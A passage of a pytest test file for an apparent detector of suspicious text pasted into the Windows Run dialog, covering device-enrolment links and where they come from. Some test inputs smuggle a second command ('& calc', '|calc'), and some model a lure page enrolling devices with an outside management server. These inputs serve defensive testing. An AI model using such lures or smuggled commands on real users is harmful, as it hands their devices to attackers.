    assert opens_tenant_library(text) is library


@pytest.mark.parametrize(
    ("text", "domains"),
    [
        (
            "ms-device-enrollment:?mode=mdm&username=j.doe@northwind.example",
            ("northwind.example", ""),
        ),
        (
            "ms-device-enrollment:?mode=aadj&username=a@de.initech.example",
            ("de.initech.example", ""),
        ),
        (
            "ms-device-enrollment:?mode=mdm&username=a@b.example&servername=https://e.b.example/x",
            ("b.example", "e.b.example"),
        ),
        # another field, a repeated one, no username, another mode, plain http, a second
        # command or a space: no enrolment link of Windows' own shape
        ("ms-device-enrollment:?mode=mdm&username=a@b.example&accesstoken=x", None),
        ("ms-device-enrollment:?mode=mdm&username=a@b.example&username=c@d.example", None),
        ("ms-device-enrollment:?mode=mdm", None),
        ("ms-device-enrollment:?mode=mam&username=a@b.example", None),
        (
            "ms-device-enrollment:?mode=mdm&username=a@b.example&servername=http://e.b.example/",
            None,
        ),
        ("ms-device-enrollment:?mode=mdm&username=a@b.example & calc", None),
        ("ms-device-enrollment:?mode=mdm&username=a@b.example|calc", None),
        ("ms-device-enrollment:?mode=mdm&username=a@b.example&servername=https://1.2.3.4/", None),
        ("ms-device-enrollment:?mode=mdm&username=" + "a" * 5000 + "@b.example", None),
    ],
)
def test_an_enrolment_link_names_its_username_domain(
    text: str, domains: tuple[str, str] | None
) -> None:
    assert enrolment_domains(text) == domains


KB = "https://kb.northwind.example/articles/enrol-your-windows-laptop"
LINK = "ms-device-enrollment:?mode=mdm&username=j.doe@northwind.example"


@pytest.mark.parametrize(
    ("source", "text", "flagged"),
    [
        (KB, LINK, False),
        ("https://northwind.sharepoint.com/sites/IT/SitePages/Intune.aspx", LINK, False),
        # a stranger's page, a check page on its own domain, plain http, typed (no page), a
        # server on another domain: a command there as before
        ("https://verify-now.example/captcha", LINK, True),
        (
            "https://verify-now.example/enroll",
            "ms-device-enrollment:?mode=mdm&username=it@verify-now.example",
            True,
        ),
        ("http://kb.northwind.example/articles/enrol", LINK, True),
        (None, LINK, True),
        (KB, LINK + "&servername=https://mdm.verify-now.example/Discovery.svc", True),
    ],
)
def test_an_enrolment_link_is_an_address_only_from_its_own_organisations_page(
    engine: Engine, source: str | None, text: str, flagged: bool
) -> None:
    verdict = engine.analyze(text, Context(source=source, target=PasteTarget.RUN_DIALOG))
    assert (verdict.level >= Level.SUSPICIOUS) is flagged, verdict
